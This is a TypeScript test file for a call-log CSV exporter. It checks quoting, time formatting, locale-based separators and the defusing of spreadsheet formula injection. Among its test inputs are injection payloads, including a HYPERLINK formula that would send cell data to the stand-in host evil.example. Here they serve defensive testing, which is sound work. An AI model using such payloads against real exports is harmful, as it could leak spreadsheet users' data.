import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it, test, vi } from 'vitest';
import {
  CSV_COLUMNS,
  getCsvSeparator,
  toCsv,
  type CsvColumn,
  type CsvFormat,
} from '../../../src/core/log/csv';
import { formatPhoneNumber } from '../../../src/core/calls/phone';
import type { LogEntry } from '../../../src/core/log/entry';
import { createMissedEntry, createLogEntry } from './log-entry-fixture';

const format: CsvFormat = {
  columns: Object.fromEntries(CSV_COLUMNS.map((name) => [name, `«${name}»`])) as Record<
    CsvColumn,
    string
  >,
  outcome: ({ kind }) => `outcome ${kind}`,
  direction: (direction) => `direction ${direction}`,
  formatNumber: (number) => formatPhoneNumber(number, 'US'),
  separator: ',',
};

beforeAll(() => {
  vi.stubEnv('TZ', 'America/New_York');
});
afterAll(() => {
  vi.unstubAllEnvs();
});

/** Parses CSV strictly as RFC 4180 describes it, with any separator. */
function parseCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let index = 0;
  while (index < text.length) {
    let cell = '';
    if (text[index] === '"') {
      for (index += 1; text[index] !== '"' || text[index + 1] === '"'; index += 1) {
        if (index >= text.length) throw new Error('a quoted cell is not closed');
        if (text[index] === '"') index += 1;
        cell += text[index] ?? '';
      }
      index += 1;
    } else {
      for (; index < text.length && text[index] !== separator && text[index] !== '\r'; index += 1) {
        if (text[index] === '"' && separator === ',')
          throw new Error('an unquoted cell contains a quote');
        cell += text[index] ?? '';
      }
    }
    row.push(cell);
    if (text[index] === separator) {
      index += 1;
      continue;
    }
    if (!text.startsWith('\r\n', index)) throw new Error(`expected a line break at ${index}`);
    index += 2;
    rows.push(row);
    row = [];
  }
  return rows;
}

const stripByteOrderMark = (text: string): string => text.replace(/^\uFEFF/, '');
const getRow = (entry: LogEntry): Record<string, string | undefined> => {
  const row = parseCsv(stripByteOrderMark(toCsv([entry], format)))[1] ?? [];
  return Object.fromEntries(CSV_COLUMNS.map((name, index) => [name, row[index]]));
};

describe('toCsv', () => {
  it('starts with a byte order mark and the given headers', () => {
    const text = toCsv([], format);
    expect(text.startsWith('\uFEFF«started»,')).toBe(true);
    expect(parseCsv(stripByteOrderMark(text))).toEqual([CSV_COLUMNS.map((name) => `«${name}»`)]);
  });

  it('writes a call with local times and durations in seconds', () => {
    const entry = createLogEntry({ startedAt: Date.UTC(2026, 0, 9, 4, 5, 6), ringMs: 4_600 });
    expect(getRow(entry)).toEqual({
      started: '2026-01-08 23:05:06',
      answered: '2026-01-08 23:05:11',
      ended: '2026-01-08 23:06:36',
      direction: 'direction incoming',
      outcome: 'outcome answered',
      answeredBy: 'Ada Lovelace',
      name: 'Grace Hopper',
      number: '\u200E+1 202-555-0147',
      customer: 'Northside Group › Bright Dental',
      endpoint: 'Front desk',
      channel: 'Voice',
      rang: '5',
      talked: '60',
      held: '25',
      account: 'maya',
    });
  });

  it('leaves unknown fields empty', () => {
    const entry = createMissedEntry({
      party: { name: undefined, number: undefined },
      customer: undefined,
      customerPath: [],
      endpoint: undefined,
      endedAt: undefined,
    });
    const row = getRow(entry);
    for (const column of ['answered', 'ended', 'answeredBy', 'name', 'number', 'customer']) {
      expect(row[column]).toBe('');
    }
  });

  it('quotes separators, quotes, and line breaks', () => {
    const name = 'Hopper, "Amazing"\r\nGrace';
    expect(getRow(createLogEntry({ party: { name } }))['name']).toBe(name);
  });

  test.each([
    '=1+1',
    '+1 202 555',
    '-2',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
    ' =1',
    '＝1',
    '\u00a0=1',
    '\ufeff@x',
    '\u3000+1',
    '﹢1',
    '﹣1',
    '−2',
    '﹦1',
  ])('defuses the formula %j', (name) => {
    expect(getRow(createLogEntry({ party: { name } }))['name']).toBe(`'${name}`);
  });

  it('keeps a value that only contains a formula character', () => {
    for (const name of ['a=b', 'Hopper-Murray', 'x@y', '1+1', "'=quoted"]) {
      expect(getRow(createLogEntry({ party: { name } }))['name']).toBe(name);
    }
  });

  const hostile = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', ' ', "'", 'a', '٣'),
    maxLength: 12,
  });

  it('never writes a formula or a broken row', () => {
    fc.assert(
      fc.property(hostile, hostile, hostile, (name, number, customer) => {
        const entry = createLogEntry({
          party: { name, number },
          customer,
          customerPath: [customer],
        });
        const rows = parseCsv(stripByteOrderMark(toCsv([entry, entry], format)));
        expect(rows.map((row) => row.length)).toEqual(Array(3).fill(CSV_COLUMNS.length));
        for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+\-@]|^[\t\r\n]/);
        const restored = rows[1]?.map((cell) => cell.replaceAll("'", ''));
        expect(restored).toContain(name.replaceAll("'", ''));
      }),
    );
  });

  test.each([',', ';'] as const)(
    'never writes a formula for readers that expect a separator other than %s',
    (separator) => {
      fc.assert(
        fc.property(hostile, hostile, (name, number) => {
          const text = stripByteOrderMark(
            toCsv([createLogEntry({ party: { name, number } })], { ...format, separator }),
          );
          // Such a reader splits cells at its own separators and strips quotation marks.
          const others = separator === ',' ? /[;\t\r\n]/ : /[,\t\r\n]/;
          for (const cell of text.split(others)) {
            expect(cell).not.toMatch(/^["\s]*[=+\-@]/);
          }
        }),
      );
    },
  );

  test.each(['x;"=1+1;y', 'x;"=HYPERLINK("http://evil.example/"&A1);y', 'x,""=1', 'x\t"@SUM(A1)'])(
    'never writes a formula after a quotation mark: %s',
    (name) => {
      const text = stripByteOrderMark(toCsv([createLogEntry({ party: { name } })], format));
      for (const cell of text.split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^["\s]*[=+\-@]/);
    },
  );

  it.each(['+12025550147', '1001', '0042', '+14155550100;ext=12', '(202) 555-0147'])(
    'keeps the number %s as text without an apostrophe',
    (number) => {
      const cell = getRow(createLogEntry({ party: { number } }))['number'] ?? '';
      expect(cell).toBe(`\u200E${formatPhoneNumber(number, 'US')}`);
      expect(Number.isNaN(Number(cell))).toBe(true);
    },
  );

  it('defuses a SIP address that looks like a formula', () => {
    expect(getRow(createLogEntry({ party: { number: '=1+1' } }))['number']).toBe("'=1+1");
    expect(getRow(createLogEntry({ party: { number: '+1;=A2' } }))['number']).toBe("'+1;'=A2");
  });

  it('separates cells by semicolons if requested', () => {
    const text = stripByteOrderMark(
      toCsv([createLogEntry({ party: { name: 'Hopper; Grace' } })], { ...format, separator: ';' }),
    );
    const rows = parseCsv(text, ';');
    expect(rows.map((row) => row.length)).toEqual([CSV_COLUMNS.length, CSV_COLUMNS.length]);
    expect(rows[1]).toContain('Hopper; Grace');
  });
});

test.each([
  ['en-US', ','],
  ['en-GB', ','],
  ['es-MX', ','],
  ['ja-JP', ','],
  ['he-IL', ','],
  ['de-DE', ';'],
  ['fr-FR', ';'],
  ['fr-CA', ';'],
  ['pt-BR', ';'],
  ['es-ES', ';'],
  ['it-IT', ';'],
  ['nl-NL', ';'],
  ['de-CH', ';'],
  ['it-CH', ';'],
  ['de', ';'],
  ['ar-EG', ';'],
  ['ar-AE', ';'],
  ['en-ZA', ';'],
  ['es-AR', ';'],
  ['en-DE', ';'],
  ['fr-CH', ';'],
  ['de-LI', ';'],
  ['pl-PL', ';'],
  ['sv-SE', ';'],
  ['fa-IR', ';'],
  ['en-IE', ','],
  ['es-US', ','],
  ['hi-IN', ','],
  ['ko-KR', ','],
  ['zh-Hant-TW', ','],
])('getCsvSeparator returns for %s the separator %s', (locale, separator) => {
  expect(getCsvSeparator(locale)).toBe(separator);
});
